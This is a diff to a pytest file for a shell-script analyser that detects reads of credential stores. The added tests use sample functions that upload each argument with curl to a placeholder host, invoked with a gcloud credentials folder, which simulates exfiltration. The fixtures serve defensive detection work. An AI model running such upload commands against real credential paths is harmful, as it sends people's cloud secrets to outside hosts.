@@ -88,3 +88,21 @@ def test_publishing_tokens_and_the_folders_holding_them_are_secret_stores(tmp_pa
 @pytest.mark.parametrize("path", ["~/.cargo/config.toml", "~/.m2/repository", "~/.config/gh/config.yml"])
 def test_the_same_tools_settings_and_caches_are_not(tmp_path: Path, path: str) -> None:
     assert reads(analyse(tmp_path, f"tar czf /tmp/t.tgz {path}\n")) == set()
+
+
+@pytest.mark.parametrize(
+    "forward",
+    [
+        'for item in "${@:2}"; do curl -s -T "$item" "https://park.invalid/u"; done',
+        'for item in "${*:3:1}"; do curl -s -T "$item" "https://park.invalid/u"; done',
+        'for item in "${@}"; do curl -s -T "$item" "https://park.invalid/u"; done',
+    ],
+)
+def test_a_slice_of_a_functions_parameters_keeps_the_paths_it_was_given(tmp_path: Path, forward: str) -> None:
+    source = f"ship() {{\n  {forward}\n}}\nship today notes.md ~/.config/gcloud\n"
+    assert any("gcloud" in r.lower() for r in reads(analyse(tmp_path, source)))
+
+
+def test_a_slice_past_the_secret_paths_reads_nothing(tmp_path: Path) -> None:
+    source = 'ship() {\n  for item in "${@:3}"; do cp "$item" /tmp/out; done\n}\nship ~/.config/gcloud notes.md\n'
+    assert reads(analyse(tmp_path, source)) == set()
